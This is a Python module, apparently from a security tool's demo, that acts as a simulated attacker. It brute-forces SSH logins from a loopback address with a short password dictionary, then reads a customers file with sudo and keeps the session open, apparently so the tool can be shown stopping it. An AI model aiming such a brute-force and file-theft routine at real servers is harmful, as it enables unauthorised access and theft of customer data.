"""The demo's attacker: a real SSH client on a loopback address with a short dictionary."""

from __future__ import annotations

import asyncio
from collections.abc import Callable
from dataclasses import dataclass

import asyncssh

from bot.demo.victim import CUSTOMERS, PASSWORD, USER

ADDRESS = "127.66.6.6"
"""Where the attacker connects from. Loopback, so that nothing leaves this machine."""
DICTIONARY = (
    ("root", "123456"), ("admin", "admin"), (USER, "password"), (USER, "letmein"), (USER, "qwerty"),
    (USER, "Spring2026!"), (USER, "deploy123"), (USER, PASSWORD),
)  # fmt: skip


@dataclass(frozen=True)
class Loot:
    """What the attacker got."""

    attempts: int
    user: str
    customers: str


class Attacker:
    def __init__(self, target: str, tell: Callable[[str], None], *, source: str = ADDRESS) -> None:
        self._host, _, port = target.rpartition(":")
        self._port = int(port)
        self._tell = tell
        self._source = source
        self._session: asyncssh.SSHClientConnection | None = None

    async def break_in(self, *, pause: float = 0.15) -> Loot:
        """Guess until a password fits, then read what the account may read. The session stays open."""
        for attempt, (user, password) in enumerate(DICTIONARY, 1):
            try:
                self._session = await self._connect(user, password)
            except asyncssh.PermissionDenied:
                self._tell(f"{self._source} tries {user} / {password}: denied")
                await asyncio.sleep(pause)
                continue
            self._tell(f"{self._source} tries {user} / {password}: LOGGED IN")
            await self._session.run("id", check=True)
            stolen = await self._session.run(f"sudo cat {CUSTOMERS}", check=True)
            self._tell(f"{self._source} reads {CUSTOMERS} as root")
            return Loot(attempts=attempt, user=user, customers=str(stolen.stdout))
        raise RuntimeError("no password of the dictionary fits")

    async def session_is_alive(self) -> bool:
        """Whether the session that got in still answers."""
        if self._session is None or self._session.is_closed():
            return False
        try:
            await asyncio.wait_for(self._session.run("id", check=True), 2)
        except (asyncssh.Error, OSError, TimeoutError):
            return False
        return True

    async def can_connect(self) -> bool:
        """Whether the server still greets a connection from the attacker's address."""
        try:
            reader, writer = await asyncio.wait_for(
                asyncio.open_connection(self._host, self._port, local_addr=(self._source, 0)), 5
            )
            greeting = await asyncio.wait_for(reader.readline(), 5)
        except (OSError, TimeoutError):
            return False
        writer.close()
        return greeting.startswith(b"SSH-")

    async def close(self) -> None:
        if self._session is not None:
            self._session.abort()

    async def _connect(self, user: str, password: str) -> asyncssh.SSHClientConnection:
        return await asyncssh.connect(
            self._host,
            self._port,
            username=user,
            password=password,
            local_addr=(self._source, 0),
            known_hosts=None,
            client_keys=None,
            agent_path=None,
            config=None,
            preferred_auth="password",
        )
